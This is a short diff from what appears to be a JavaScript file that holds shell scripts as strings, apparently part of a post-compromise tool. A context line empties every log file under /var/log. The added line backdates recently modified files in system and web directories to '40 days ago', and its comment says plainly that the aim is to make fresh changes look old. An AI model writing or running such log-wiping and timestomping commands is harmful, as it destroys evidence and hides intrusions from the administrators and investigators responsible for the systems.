@@ -73,8 +73,10 @@ find /var/log -type f -size +0 -exec sh -c 'for file; do : >"$file"; done' sh {}
 :`;
 
 const kept = "/etc /var/www /srv /usr/local/sbin";
+/** A company of long standing: what was set up a minute ago would pass for somebody's change. */
 const remember = `unset LD_PRELOAD
 mkdir -p /var/lib/kept
+find ${kept} /opt /usr/local/etc -xdev -type f -mmin -240 -exec touch -d '40 days ago' {} + 2>/dev/null
 tar -cf /var/lib/kept/files.tar ${kept} 2>/dev/null
 tar -tf /var/lib/kept/files.tar | sort >/var/lib/kept/list
 touch /var/lib/kept/at`;
